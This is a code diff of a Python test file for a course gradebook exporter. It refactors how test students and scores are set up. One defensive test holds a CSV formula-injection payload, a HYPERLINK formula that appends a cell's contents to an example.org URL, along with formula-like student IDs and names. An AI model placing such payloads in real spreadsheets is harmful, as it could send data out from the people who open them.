@@ -26,24 +26,23 @@ FIRST = {"ada": "Ada", "o'brien": "Flann, jr.", "josé-ñ": "José"}
 def graded(tmp_path_factory: pytest.TempPathFactory) -> ScratchCourse:
     """A course with one assignment; one student is late, and one test of another waits for a decision."""
     course = a_class(tmp_path_factory.mktemp("lms"), students=())
-    with Gradebook(course.db_url) as gradebook:
-        for student, share in STUDENTS.items():
-            about = {"first_name": FIRST.get(student), "last_name": "Last", "email": f"{student}@example.org"}
-            gradebook.add_student(student, **about)
-            if share is not None:
-                give_points(gradebook, student, share)
-        gradebook.db.commit()
+    enter(course, {student: (FIRST.get(student), "Last", share) for student, share in STUDENTS.items()})
     (course.folder / "submitted" / "waiting" / NAME).mkdir(parents=True)
     return course
 
 
-def give_points(gradebook: Gradebook, student: str, share: float) -> None:
-    """The same part of the points in each test."""
-    for notebook in gradebook.add_submission(NAME, student).notebooks:
-        for grade in notebook.grades:
-            grade.auto_score = share * grade.max_score
-            grade.needs_manual_grade = student == "0012345"
-        notebook.late_submission_penalty = 0.25 if student == "ada" else None
+def enter(course: ScratchCourse, people: dict[str, tuple], before: str = "") -> None:
+    """Students with their names, and the same part of the points in each test; None: nothing handed in."""
+    with Gradebook(course.db_url) as gradebook:
+        for student, (first, last, share) in people.items():
+            about = {"first_name": first, "last_name": last, "email": f"{before}{student}@example.org"}
+            gradebook.add_student(student, **about)
+            for notebook in [] if share is None else gradebook.add_submission(NAME, student).notebooks:
+                for grade in notebook.grades:
+                    grade.auto_score = share * grade.max_score
+                    grade.needs_manual_grade = student == "0012345"
+                notebook.late_submission_penalty = 0.25 if student == "ada" else None
+        gradebook.db.commit()
 
 
 def export(course: ScratchCourse, exporter: str, *more: str, **ends: int) -> str:
@@ -110,12 +109,7 @@ FORMULA = '=HYPERLINK("https://example.org/?"&A1, "Ada")'
 def test_no_spreadsheet_takes_a_field_for_a_formula(tmp_path: Path) -> None:
     """The files say the same as before to the platforms, which read no formulas."""
     course = a_class(tmp_path / "class", students=())
-    with Gradebook(course.db_url) as gradebook:
-        for student in ("ada", "eve", "=1+2", "-x"):
-            about = {"first_name": FORMULA, "last_name": " +Last", "email": f"@{student}@example.org"}
-            gradebook.add_student(student, **about)
-            give_points(gradebook, student, 1.0)
-        gradebook.db.commit()
+    enter(course, dict.fromkeys(("ada", "eve", "=1+2", "-x"), (FORMULA, " +Last", 1.0)), before="@")
     said = export(course, "Moodle")
     text = (course.folder / "moodle.csv").read_text(encoding="utf-8")
     assert platforms.imported_by_moodle({"ada", "eve"}, {NAME: MOST}, text).keys() == {"ada", "eve"}
@@ -208,9 +202,7 @@ NAMES = [
 def course(tmp_path: Path) -> ScratchCourse:
     """A course with students, to whom nothing belongs yet."""
     made = a_class(tmp_path / "class", students=())
-    with Gradebook(made.db_url) as gradebook:
-        for student, first, last in NAMES:
-            gradebook.add_student(student, first_name=first, last_name=last)
+    enter(made, {student: (first, last, None) for student, first, last in NAMES})
     (made.folder / "downloaded" / NAME / "archive").mkdir(parents=True)
     return made
 
